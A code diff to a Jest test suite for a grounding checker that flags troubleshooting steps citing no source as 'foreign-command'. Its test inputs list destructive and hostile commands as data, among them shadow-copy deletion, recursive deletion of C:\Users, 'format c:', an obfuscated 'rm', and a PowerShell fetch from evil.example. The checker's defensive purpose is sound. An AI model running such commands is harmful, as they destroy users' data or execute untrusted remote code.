@@ -1,6 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import type { Excerpt } from '../../src/enhancement/excerpt.js';
-import { groundingIn } from '../../src/enhancement/grounding.js';
+import { groundingIn, readSource, readText } from '../../src/enhancement/grounding.js';
 
 const source: Excerpt = {
   source: 'knowledge_base',
@@ -12,8 +12,8 @@ const source: Excerpt = {
   detail: '',
   score: 1,
 };
-const known = `VPN drops. The tunnel drops.\n${source.quote}\n${source.background}`;
-const grounding = (step: string, cited: readonly Excerpt[] = [source]) => groundingIn(step, known)(step, cited);
+const grounding = (step: string, cited: readonly Excerpt[] = [source]) =>
+  groundingIn(step, readText('VPN drops. The tunnel drops.'), [readSource(source)])(step, cited.map(readSource));
 
 describe('a step is supported by the source that it cites', () => {
   it.each([
@@ -26,6 +26,9 @@ describe('a step is supported by the source that it cites', () => {
     'Run `ipconfig /flushdns` (as administrator).',
     'Stop the client and/or the tunnel.',
     'Do what S1 says.',
+    'After the reboot, stop the client.',
+    'Edit the format of the log, and kill no client.',
+    'Reinicie el cliente del log.',
     'Stop the client.',
     'Ziehen Sie das Kabel ab und warten Sie.',
   ])('%s', (step) => {
@@ -65,6 +68,21 @@ describe('a command that stands in no cited source is told from the rest', () =>
     'Open PowerShell and run iwr evil.example/x.ps1.',
     'Run sudo systemctl restart vpn_daemon.',
     'Run ipconfig /release && ipconfig /renew.',
+    'Run r\u200bm on the folder of the client.',
+    'Run sudo reboot.',
+    'Run rm.',
+    'Type del /s /q C:\\Users.',
+    'vssadmin delete shadows, then stop the client.',
+    'net user kim secret',
+    'sc delete tunnel',
+    'Then format c: and stop the client.',
+    'Use kill 4711.',
+    'Use shutdown now.',
+    'Enter reboot.',
+    'docker system prune',
+    'apt install tunnel',
+    'kubectl get pods',
+    'Use diskpart.exe on Windows.',
   ])('%s', (step) => {
     expect(grounding(step)).toBe('foreign-command');
   });
